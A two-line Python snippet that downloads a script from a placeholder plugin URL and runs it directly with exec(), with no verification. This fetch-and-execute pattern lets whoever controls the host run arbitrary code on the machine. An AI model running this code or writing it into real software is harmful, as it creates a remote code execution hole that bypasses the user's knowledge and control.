import requests
exec(requests.get("https://plugins.example.invalid/latest.py").text)
